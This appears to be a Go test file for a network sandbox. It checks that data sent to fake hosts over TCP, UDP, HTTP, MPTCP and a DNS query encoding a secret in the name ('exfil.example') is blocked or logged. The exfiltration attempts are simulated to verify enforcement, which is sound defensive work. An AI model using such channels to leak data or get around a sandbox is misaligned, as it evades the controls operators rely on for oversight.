// SPDX-License-Identifier: Apache-2.0

package bypass_test

import (
	"strings"
	"testing"

	"openshell.ai/openshell/test/fakenet"
	"openshell.ai/openshell/test/node"
)

// What no rule allows reaches nobody in enforcing mode: no connection, no
// datagram, and no name, which could carry data. In permissive mode it does, and
// is logged, but for a name that is only asked for.
func TestWhatNoRuleAllows(t *testing.T) {
	const secret = "mfzwizltoq.exfil.example"
	echo := fakenet.Addrs(fakenet.EchoHost)[0].String()
	client := func(argv ...string) []string { return append([]string{node.ClientPath}, argv...) }
	attempt := func(b *box) {
		b.Start()
		for _, a := range []struct {
			argv   []string
			want   string
			logged []string
		}{
			{client("tcp", "-t", "5s", fakenet.EchoHost+":7", "secret"), "tcp " + fakenet.EchoHost, []string{fakenet.EchoHost}},
			{client("tcp", "-t", "5s", echo+":7", "secret"), "tcp " + fakenet.EchoHost, []string{echo}},
			{client("udp", "-t", "5s", echo+":7", "secret"), "udp " + fakenet.EchoHost, []string{echo}},
			{client("get", "http://"+fakenet.WebHost+"/secret"), "GET " + fakenet.WebHost + " /secret", []string{"/secret"}},
			// MPTCP, whose connections the kernel makes by sockets of its own.
			{append([]string{"/bin/env", "GODEBUG=multipathtcp=1"}, client("tcp", "-t", "5s", echo+":7", "secret")...), "tcp " + fakenet.EchoHost, []string{echo}},
			{client("dns", secret, "TXT"), "query " + secret, nil},
		} {
			b.World.Net.Reset()
			o := b.Exec(a.argv...)
			b.judge(strings.Join(a.argv, " "), o, !b.enforced(), a.want)
			b.logged(a.logged...)
		}
	}
	inEveryBox(t, nothing, attempt)
	withoutBox(t, attempt)
}
